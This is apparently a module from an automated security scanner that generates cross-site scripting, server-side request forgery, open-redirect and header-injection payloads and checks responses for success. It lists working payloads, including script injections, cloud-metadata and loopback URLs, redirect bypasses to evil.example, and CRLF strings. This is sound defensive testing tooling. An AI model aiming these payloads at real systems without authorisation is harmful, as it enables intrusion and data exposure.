// What leaves by the web: markup, requests to other hosts, redirects, headers.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads look like templates.
'use strict';

const { isIP } = require('node:net');
const { codeIn } = require('./markup.cjs');
const { Family, Payload, nameOf, proven, saidBy } = require('./family.cjs');

const PAGE_NAMES =
  /html|render|page|markup|template|widget|badge|snippet|greet|banner|comment|profile|card|link|view|tag/i;
const REDIRECT_NAMES = /redirect|next|return|target|login|location|url/i;
const ADDRESS_NAMES = /url|uri|link|address|endpoint/i;

class Xss extends Family {
  isPadded = true;
  wanted = ['text'];

  *payloads() {
    const texts = [
      '<script>alert(1)</script>',
      '"><script>alert(1)</script>',
      "'><script>alert(1)</script>",
      '<img src=x onerror=alert(1)>',
      '" onmouseover="alert(1)',
      "' onmouseover='alert(1)",
      'javascript:alert(1)',
      'x onmouseover=alert(1) ',
      '</script><script>alert(1)</script>',
      "';alert(1);//",
      '";alert(1);//',
      '<svg/onload=alert(1)>',
      '</title><script>alert(1)</script>',
      '</textarea><script>alert(1)</script>',
      '<ScRiPt>alert(1)</sCrIpT>',
      '<scr<script>ipt>alert(1)</scr</script>ipt>',
      '--><script>alert(1)</script>',
      '${alert(1)}',
      'JaVaScRiPt:alert(1)',
      '\\";alert(1);//',
      'java\tscript:alert(1)',
      'https://example.com/" onmouseover="alert(1)',
    ];
    for (const text of texts) yield new Payload(this.hunt.disguise(text));
  }

  learn(control) {
    const { target } = this.hunt;
    const hasTags = /<(?:\/?[a-z][a-z0-9]*)[\s>/]/i;
    const own = target.facts.strings.flatMap(([line, text]) => (line > 0 ? [text] : []));
    this.isPage =
      hasTags.test(control.text ?? '') ||
      (hasTags.test(own.join('\n')) && PAGE_NAMES.test(`${nameOf(target)} ${target.documentation}`));
  }

  arrivals(seen) {
    return this.page(seen);
  }

  page(seen) {
    const { response, text, called } = seen;
    if (response?.ended || (response?.body ?? '') !== '')
      return /html|xml|svg/i.test(response.headers['content-type'] ?? 'text/html') ? response.body : '';
    return this.isPage ? [text, called?.text].join('\n') : '';
  }

  judge({ payload, seen }) {
    if (payload === undefined && seen === undefined) return undefined;
    const found = codeIn(this.page(seen), this.hunt.call);
    return found === undefined ? undefined : proven(`the page that comes back holds ${found}`);
  }

  mayBe(text) {
    return text.toLowerCase().includes(this.hunt.call);
  }
}

class Ssrf extends Family {
  canShrink = false;
  wanted = ['url', 'host'];
  nothing = 'no parameter carries an address from outside';

  hosts() {
    return this.hunt.target.facts.hosts.slice(0, 3);
  }

  *payloads(site) {
    const evil = this.hunt.host;
    if (site.role === 'host')
      for (const text of [evil, '169.254.169.254', '127.0.0.1', 'localhost']) yield new Payload(text);
    for (const text of [
      `http://${evil}/`,
      `https://${evil}/`,
      'http://169.254.169.254/latest/meta-data/',
      'http://127.0.0.1/',
      'http://localhost/',
      'http://[::1]/',
      'http://2130706433/',
      'http://0x7f000001/',
      'http://10.0.0.5/',
      'http://[::ffff:127.0.0.1]/',
      'http://0.0.0.0/',
    ])
      yield new Payload(text);
    for (const host of this.hosts()) {
      for (const scheme of ['https', 'http']) {
        for (const text of [
          `${host}.${evil}/`,
          `${host}@${evil}/`,
          `${evil}/${host}`,
          `${evil}#${host}`,
          `${evil}?${host}`,
          `${evil}\\@${host}/`,
          `${evil}/#.${host}`,
          `x${host}/`,
        ])
          yield new Payload(`${scheme}://${text}`);
      }
    }
    for (const text of [
      `${evil}/`,
      `${evil}#`,
      `${evil}?`,
      `@${evil}/`,
      `x.${evil}/`,
      `.${evil}/`,
      `//${evil}/`,
      `x@${evil}:80/`,
      `${evil}\\`,
    ])
      yield new Payload(text);
  }

  controls(site) {
    return [
      undefined,
      ...(site?.role === 'host' ? [] : [new Payload(`http://${this.hosts()[0] ?? 'public.example'}/note`)]),
      new Payload('note'),
    ];
  }

  learn(control) {
    this.usual = new Set((control.http ?? []).map(hostOf));
    this.usualText = hostOf((control.text ?? '').trim());
  }

  arrivals(seen) {
    return [seen.http, seen.text];
  }

  judge({ payload, seen }) {
    const own = new Set([...this.usual, ...this.hosts(), ...(payload === undefined ? [] : [])]);
    for (const asked of seen.http ?? []) {
      const host = hostOf(asked);
      if (host === undefined || own.has(host)) continue;
      if (this.isEvil(host)) return proven(`the server asked ${host}, which the value named`);
      if (isInner(host)) return proven(`the server asked ${host}, which is not of the outside`);
    }
    return this.leads(seen);
  }

  isEvil(host) {
    return (
      host === this.hunt.host ||
      host.endsWith(`.${this.hunt.host}`) ||
      this.hosts().some((one) => host === `x${one}`)
    );
  }

  /** A function that only makes the address. */
  leads(seen) {
    const text = (seen.text ?? '').trim();
    if (seen.end !== 'value' || seen.type !== 'string' || !ADDRESS_NAMES.test(nameOf(this.hunt.target)))
      return undefined;
    const host = hostOf(text);
    return host !== undefined && host !== this.usualText && this.isEvil(host)
      ? proven(`the address that it returns leads to ${host}`)
      : undefined;
  }
}

function hostOf(text) {
  try {
    return new URL(text).hostname.replace(/^\[|\]$/g, '').toLowerCase();
  } catch {
    return undefined;
  }
}

function isInner(host) {
  if (host === 'localhost' || host.endsWith('.localhost')) return true;
  if (isIP(host) === 4) return /^(?:0|10|127|169\.254|192\.168|172\.(?:1[6-9]|2\d|3[01]))\./.test(host);
  return isIP(host) === 6 && /^(?:::1?$|::ffff:|f[cd]|fe[89ab])/.test(host);
}

/** Where a browser goes is judged with the URL parser of browsers. */
class Redirect extends Family {
  wanted = ['url', 'host', 'text'];
  canShrink = false;

  *payloads() {
    const hosts = this.hunt.target.facts.hosts.slice(0, 3);
    const texts = [
      'https://evil.example/',
      '//evil.example/',
      '/\\evil.example/',
      '\\\\evil.example/',
      '/\t/evil.example/',
      '///evil.example/',
      'https:evil.example/',
      'https:/evil.example/',
      '/\\/evil.example/',
      '\t//evil.example/',
      ' //evil.example/',
      'https:\\\\evil.example/',
      '\u0001//evil.example/',
      'HTTPS://evil.example/',
      '@evil.example/',
      '.evil.example/',
      'javascript:alert(1)//evil.example',
      '/%09/evil.example/',
      '/x/..//evil.example/',
      '/./\\evil.example/',
      '/.//evil.example/',
      ...(hosts.length === 0 ? ['app.example'] : hosts).flatMap((one) => [
        `https://${one}.evil.example/`,
        `https://${one}@evil.example/`,
        `https://evil.example/${one}`,
        `https://evil.example?${one}`,
        `https://evil.example#${one}`,
        `https://evil.example\\@${one}/`,
        `//${one}@evil.example/`,
        `https://evil.example\\.${one}/`,
        `https://x${one}/`,
      ]),
    ];
    for (const text of texts) yield new Payload(this.hunt.disguise(text));
  }

  controls() {
    return [undefined, new Payload('/notes'), new Payload('note')];
  }

  arrivals(seen) {
    return [this.location(seen)];
  }

  location(seen) {
    const { response } = seen;
    if (response?.headers.location !== undefined) return response.headers.location;
    if (this.hunt.plan.hasRequest() && response !== undefined) return undefined;
    const { target, plan } = this.hunt;
    const names = `${nameOf(target)} ${plan.parameters.map(({ name }) => name).join(' ')}`;
    return seen.end === 'value' && seen.type === 'string' && REDIRECT_NAMES.test(names)
      ? seen.text.replace(/\n$/, '')
      : undefined;
  }

  judge({ seen }) {
    const location = this.location(seen);
    if (location === undefined || !URL.canParse(location, 'https://app.example/')) return undefined;
    const url = new URL(location, 'https://app.example/');
    const isOther = this.hunt.target.facts.hosts.some((one) => url.hostname === `x${one}`);
    const isAway = isOther || url.hostname === this.hunt.host || url.hostname.endsWith(`.${this.hunt.host}`);
    const isScript = url.protocol === 'javascript:' && location.includes(this.hunt.call);
    if (!isAway && !isScript) return undefined;
    return proven(`the browser is sent to ${JSON.stringify(location.slice(0, 120))}`);
  }
}

/** A line of its own in a head. */
class Header extends Family {
  isPadded = true;
  wanted = ['text'];

  *payloads() {
    for (const text of [
      'x\r\npwned: 42',
      'x\npwned: 42',
      'x\rpwned: 42',
      'alice@example.com\r\npwned: 42',
      'x\r\n pwned: 42\r\npwned: 42',
    ])
      yield new Payload(this.hunt.disguise(text));
  }

  learn(control) {
    this.isHead = /^[\w-]+: ?\S/m.test(`${control.text ?? ''}\n${(control.sent ?? []).join('\n')}`);
  }

  judge({ seen }) {
    const line = new RegExp(`(?:^|\\r\\n|\\n|\\r)${this.hunt.marker}: 42`);
    if ((seen.sent ?? []).some((text) => line.test(text)))
      return proven('a line "pwned: 42" of its own went over the network');
    const isHead = this.isHead && line.test(saidBy({ ...seen, error: undefined, response: undefined }));
    return isHead ? proven('the head that comes back has a line "pwned: 42" of its own') : undefined;
  }

  mayBe(text) {
    return text.includes(`${this.hunt.marker}: 42`);
  }
}

module.exports = { Header, Redirect, Ssrf, Xss };
